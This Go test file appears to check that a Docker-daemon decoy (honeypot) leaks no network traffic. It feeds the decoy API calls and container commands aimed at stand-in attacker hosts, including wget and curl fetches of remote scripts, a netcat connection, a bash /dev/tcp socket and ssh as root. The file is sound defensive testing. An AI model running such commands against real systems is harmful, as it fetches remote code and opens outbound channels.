package egress

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

const inside = "WHALEFALL_EGRESS_INSIDE"

func run(t *testing.T, name string, args ...string) string {
	t.Helper()
	out, err := exec.Command(name, args...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
	return string(out)
}

// TestNoPacketLeaves runs itself in namespaces of its own.
func TestNoPacketLeaves(t *testing.T) {
	if os.Getenv(inside) == "" {
		if os.Geteuid() != 0 {
			t.Skip("needs root to make network namespaces")
		}
		dir := t.TempDir()
		bin := filepath.Join(dir, "whalefall")
		cmd := exec.Command("go", "build", "-o", bin, "./cmd/whalefall")
		cmd.Dir = "../.."
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("build: %v\n%s", err, out)
		}
		exe, err := os.Executable()
		if err != nil {
			t.Fatal(err)
		}
		cmd = exec.Command(exe, "-test.run", "^TestNoPacketLeaves$", "-test.v")
		cmd.Env = append(os.Environ(), inside+"="+bin)
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET | syscall.CLONE_NEWNS, Pdeathsig: syscall.SIGKILL}
		out, err := cmd.CombinedOutput()
		t.Logf("%s", out)
		if err != nil {
			t.Fatal(err)
		}
		return
	}
	// A namespace of the test: everything beyond loopback ends in a second one,
	// which answers nothing and counts.
	run(t, "mount", "--make-rprivate", "/")
	run(t, "ip", "link", "set", "lo", "up")
	peer := exec.Command("sleep", "600")
	peer.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNET, Pdeathsig: syscall.SIGKILL}
	if err := peer.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { peer.Process.Kill(); peer.Wait() }()
	run(t, "ip", "link", "add", "out", "type", "veth", "peer", "name", "sink", "netns", strconv.Itoa(peer.Process.Pid))
	pid := strconv.Itoa(peer.Process.Pid)
	ns := func(args ...string) string { return run(t, "nsenter", append([]string{"-t", pid, "-n"}, args...)...) }
	run(t, "ip", "link", "set", "out", "address", "02:00:00:00:00:01")
	ns("ip", "link", "set", "sink", "address", "02:00:00:00:00:02", "up")
	// The kernel's own chatter on a new link is none of the program's: no router
	// is solicited, no address made.
	for _, f := range []string{"default", "out"} {
		for k, v := range map[string]string{"router_solicitations": "0", "accept_ra": "0", "autoconf": "0", "addr_gen_mode": "1"} {
			_ = os.WriteFile("/proc/sys/net/ipv6/conf/"+f+"/"+k, []byte(v), 0o644) // without IPv6 there is nothing to set
		}
	}
	run(t, "ip", "link", "set", "out", "up")
	run(t, "ip", "addr", "add", "10.77.0.1/24", "dev", "out")
	run(t, "ip", "neigh", "add", "10.77.0.2", "lladdr", "02:00:00:00:00:02", "dev", "out", "nud", "permanent")
	run(t, "ip", "route", "add", "default", "via", "10.77.0.2")
	if _, err := os.Stat("/proc/sys/net/ipv6"); err == nil {
		run(t, "ip", "-6", "addr", "add", "fd77::1/64", "dev", "out", "nodad")
		run(t, "ip", "-6", "neigh", "add", "fd77::2", "lladdr", "02:00:00:00:00:02", "dev", "out", "nud", "permanent")
		run(t, "ip", "-6", "route", "add", "default", "via", "fd77::2")
	}
	// Two resolvers: one beyond the route, one on loopback.
	conf := filepath.Join(t.TempDir(), "resolv.conf")
	os.WriteFile(conf, []byte("nameserver 127.0.0.53\nnameserver 10.77.0.2\n"), 0o644)
	run(t, "mount", "--bind", conf, "/etc/resolv.conf")
	hosts := filepath.Join(t.TempDir(), "hosts")
	os.WriteFile(hosts, nil, 0o644) // not even localhost
	run(t, "mount", "--bind", hosts, "/etc/hosts")
	pc, err := net.ListenPacket("udp", "127.0.0.53:53")
	if err != nil {
		t.Fatal(err)
	}
	var lookups atomic.Int64
	go func() {
		b := make([]byte, 4096)
		for {
			if _, _, err := pc.ReadFrom(b); err != nil {
				return
			}
			lookups.Add(1)
		}
	}()
	packets := func() int {
		for _, l := range strings.Split(ns("cat", "/proc/net/dev"), "\n") {
			if name, rest, ok := strings.Cut(strings.TrimSpace(l), ":"); ok && name == "sink" {
				n, err := strconv.Atoi(strings.Fields(rest)[1])
				if err != nil {
					t.Fatal(err)
				}
				return n
			}
		}
		t.Fatal("the counter is missing")
		return 0
	}
	time.Sleep(3 * time.Second) // the kernel's own multicast reports of a new link
	basePackets, baseLookups := packets(), lookups.Load()
	n := drive(t, os.Getenv(inside))
	time.Sleep(time.Second)
	gotP, gotL := packets()-basePackets, lookups.Load()-baseLookups
	t.Logf("%d calls: %d packets, %d look-ups", n, gotP, gotL)
	if gotP != 0 || gotL != 0 {
		t.Errorf("%d packets and %d look-ups left", gotP, gotL)
	}
	// The planted leak: the counters must see it.
	c, err := net.Dial("udp", "198.51.100.7:9")
	if err != nil {
		t.Fatal(err)
	}
	c.Write([]byte("leak"))
	c.Close()
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "udp", "127.0.0.53:53")
	}}
	ctx, stop := context.WithTimeout(context.Background(), 2*time.Second)
	defer stop()
	r.LookupHost(ctx, "leak.example.com")
	time.Sleep(200 * time.Millisecond)
	if packets()-basePackets-gotP < 1 || lookups.Load()-baseLookups-gotL < 1 {
		t.Error("the planted leak was not counted: the counters show nothing")
	} else {
		t.Logf("the planted leak was counted: %d packets, %d look-ups", packets()-basePackets-gotP, lookups.Load()-baseLookups-gotL)
	}
}

// drive serves a decoy and puts an attacker's address into everything.
func drive(t *testing.T, bin string) int {
	data := t.TempDir()
	addr := "127.0.0.1:23750"
	cmd := exec.Command(bin, "serve", "--data", filepath.Join(data, "d"), "--listen", addr, "--web", "127.0.0.1:23700", "--latency", "none")
	var logb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &logb, &logb
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { cmd.Process.Signal(syscall.SIGTERM); cmd.Wait() }()
	client := &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{DialContext: func(context.Context, string, string) (net.Conn, error) { return net.Dial("tcp", addr) }}}
	up := false
	for range 300 {
		if resp, err := client.Get("http://" + addr + "/_ping"); err == nil {
			resp.Body.Close()
			up = true
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if !up {
		t.Fatalf("no answer:\n%s", logb.String())
	}
	var count atomic.Int64
	call := func(method, path, ctype string, body []byte, head ...string) (int, []byte) {
		req, err := http.NewRequest(method, "http://"+addr+path, bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		if ctype != "" {
			req.Header.Set("Content-Type", ctype)
		}
		for i := 0; i+1 < len(head); i += 2 {
			req.Header.Set(head[i], head[i+1])
		}
		count.Add(1)
		resp, err := client.Do(req)
		if err != nil {
			return 0, nil
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 8<<20))
		return resp.StatusCode, b
	}
	// A daemon takes 15 seconds to give a missing plugin up: calls run beside each
	// other.
	var wg sync.WaitGroup
	slots := make(chan struct{}, 64)
	go_ := func(method, path, ctype string, body []byte, head ...string) {
		wg.Add(1)
		slots <- struct{}{}
		go func() {
			defer func() { <-slots; wg.Done() }()
			call(method, path, ctype, body, head...)
		}()
	}
	js := func(v any) []byte { b, _ := json.Marshal(v); return b }
	for _, u := range []string{"http://198.51.100.7/x.tar", "https://evil.example.com/x", "evil.example.com", "[2001:db8::7]:5000", "tcp://198.51.100.7:2377", "ftp://198.51.100.7/a", "//198.51.100.7/y", "git://evil.example.com/r.git", "https://github.com/example/x.git"} {
		q := url.QueryEscape(u)
		host := strings.NewReplacer("http://", "", "https://", "", "tcp://", "", "ftp://", "", "git://", "", "//", "").Replace(u)
		host, _, _ = strings.Cut(host, "/")
		auth := base64.URLEncoding.EncodeToString(js(map[string]string{"username": "u", "password": "p", "serveraddress": u}))
		for _, v := range []string{"", "/v1.24", "/v1.41"} {
			go_("POST", v+"/images/create?fromSrc="+q+"&repo=r", "", nil, "X-Registry-Auth", auth)
			go_("POST", v+"/images/create?fromImage="+url.QueryEscape(host+"/a/b")+"&tag=latest", "", nil, "X-Registry-Auth", auth)
			go_("POST", v+"/images/"+url.PathEscape(host)+"/b/push?tag=x", "", nil, "X-Registry-Auth", auth)
			go_("GET", v+"/images/search?term="+url.QueryEscape(host+"/x"), "", nil, "X-Registry-Auth", auth)
			go_("GET", v+"/distribution/"+url.PathEscape(host)+"/x/json", "", nil, "X-Registry-Auth", auth)
			go_("POST", v+"/auth", "application/json", js(map[string]string{"username": "u", "password": "p", "serveraddress": u}))
			go_("POST", v+"/build?remote="+q, "application/x-tar", nil, "X-Registry-Config", auth)
			go_("POST", v+"/build?t=x&networkmode=host&cachefrom="+url.QueryEscape(`["`+host+`/c"]`), "application/x-tar", dockerfile("FROM "+host+"/base\nADD "+u+" /x\nRUN wget "+u))
			go_("POST", v+"/swarm/join", "application/json", js(map[string]any{"RemoteAddrs": []string{host + ":2377"}, "JoinToken": "SWMTKN-1-x", "AdvertiseAddr": host, "DataPathAddr": host}))
			go_("POST", v+"/swarm/init", "application/json", js(map[string]any{"ListenAddr": host, "AdvertiseAddr": host, "Spec": map[string]any{"CAConfig": map[string]any{"ExternalCAs": []any{map[string]string{"Protocol": "cfssl", "URL": u}}}}}))
			go_("POST", v+"/swarm/leave?force=1", "", nil)
			go_("GET", v+"/plugins/privileges?remote="+q, "", nil)
			go_("POST", v+"/plugins/pull?remote="+url.QueryEscape(host+"/p"), "application/json", []byte("[]"), "X-Registry-Auth", auth)
			go_("POST", v+"/networks/create", "application/json", js(map[string]any{"Name": "n" + strconv.Itoa(int(count.Load())), "Driver": host + "/plugin", "IPAM": map[string]any{"Driver": host}}))
			go_("POST", v+"/volumes/create", "application/json", js(map[string]any{"Name": "v" + strconv.Itoa(int(count.Load())), "Driver": "local", "DriverOpts": map[string]string{"type": "nfs", "o": "addr=198.51.100.7", "device": ":/x"}}))
			go_("POST", v+"/containers/create", "application/json", js(map[string]any{"Image": "alpine", "Healthcheck": map[string]any{"Test": []string{"CMD", "wget", u}},
				"HostConfig": map[string]any{"LogConfig": map[string]any{"Type": "syslog", "Config": map[string]string{"syslog-address": "udp://198.51.100.7:514"}}, "Dns": []string{"198.51.100.7"}, "ExtraHosts": []string{"a:198.51.100.7"}, "VolumeDriver": host}}))
			go_("GET", v+"/events?until=0&filters="+q, "", nil, "Host", host, "Referer", u, "Origin", u, "Proxy", u)
		}
	}
	wg.Wait()
	// And from inside: everything in a world that dials.
	call("POST", "/images/create?fromImage=alpine&tag=latest", "", nil)
	for _, code := range []string{
		"wget -qO- http://198.51.100.7/x.sh", "wget http://evil.example.com/y -O /tmp/y", "curl -s https://evil.example.com/z", "ping -c 1 198.51.100.7", "nslookup evil.example.com",
		"nc 198.51.100.7 4444 </dev/null", "apk add curl", "cat /etc/resolv.conf", "python3 -c \"import urllib.request; urllib.request.urlopen('http://198.51.100.7/')\"",
		"bash -c 'exec 3<>/dev/tcp/198.51.100.7/80; echo GET / >&3; cat <&3'", "ssh root@198.51.100.7 id", "telnet 198.51.100.7",
	} {
		_, b := call("POST", "/containers/create", "application/json", js(map[string]any{"Image": "alpine", "Cmd": []string{"timeout", "3", "sh", "-c", code}, "HostConfig": map[string]any{"NetworkMode": "host", "Privileged": true}}))
		var c struct {
			ID string `json:"Id"`
		}
		if json.Unmarshal(b, &c) == nil && c.ID != "" {
			call("POST", "/containers/"+c.ID+"/start", "", nil)
		}
	}
	// The operator's side of it, too.
	for _, args := range [][]string{{"session", "ls"}, {"ioc", "ls"}, {"brief"}, {"doctor"}, {"export", "events"}} {
		out, err := exec.Command(bin, append(args, "--data", filepath.Join(data, "d"))...).CombinedOutput()
		if err != nil && args[0] != "doctor" {
			t.Errorf("%v: %v\n%s", args, err, out)
		}
		count.Add(1)
	}
	time.Sleep(2 * time.Second)
	if !strings.Contains(fmt.Sprint(cmd.ProcessState), "<nil>") {
		t.Errorf("serve ended:\n%s", logb.String())
	}
	return int(count.Load())
}

func dockerfile(text string) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	w.WriteHeader(&tar.Header{Name: "Dockerfile", Mode: 0o644, Size: int64(len(text))})
	w.Write([]byte(text))
	w.Close()
	return b.Bytes()
}
